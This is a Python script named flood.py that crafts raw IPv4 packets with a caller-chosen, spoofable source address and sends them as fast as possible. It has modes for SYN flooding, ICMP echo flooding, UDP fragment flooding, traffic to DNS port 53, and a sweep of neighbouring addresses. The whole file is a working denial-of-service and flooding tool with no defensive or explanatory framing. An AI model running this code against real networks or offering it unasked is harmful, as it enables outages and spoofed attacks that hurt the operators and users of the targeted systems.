"""Floods: flood.py KIND SOURCE DESTINATION COUNT. IPv4 packets by a raw socket, as fast as it goes."""
import socket
import struct
import sys

kind, source, destination, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(protocol, payload, to=destination, ident=0, flags=0):
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, flags, 64, protocol, 0,
        socket.inet_aton(source), socket.inet_aton(to),
    )
    return head + payload


def tcp(port):
    """A SYN to port 80."""
    head = struct.pack("!HHIIBBHHH", port, 80, port, 0, 0x50, 2, 64240, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack("!BBH", 0, 6, len(head))
    return head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]


def udp(port, to_port, data=b"x"):
    return struct.pack("!HHHH", port, to_port, 8 + len(data), 0) + data


def echo(sequence):
    body = struct.pack("!BBHHH", 8, 0, 0, 77, sequence & 0xFFFF)
    return body[:2] + struct.pack("!H", checksum(body)) + body[4:]


def packet(n):
    if kind == "syn":
        return ip(6, tcp(1024 + n)), destination
    if kind == "echo":
        return ip(1, echo(n)), destination
    if kind == "fragment":
        return ip(17, udp(9, 9, b"x" * 1400), ident=n & 0xFFFF, flags=0x2000), destination
    if kind == "dns":
        return ip(17, udp(1024 + n, 53)), destination
    # "scan": a datagram to each address behind the destination.
    start = struct.unpack("!I", socket.inet_aton(destination))[0]
    to = socket.inet_ntoa(struct.pack("!I", start + n))
    return ip(17, udp(9, 9), to=to), to


out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for n in range(count):
    data, to = packet(n)
    while True:
        try:
            out.sendto(data, (to, 0))
            break
        except (BlockingIOError, OSError) as error:
            if error.errno not in (11, 105):
                raise
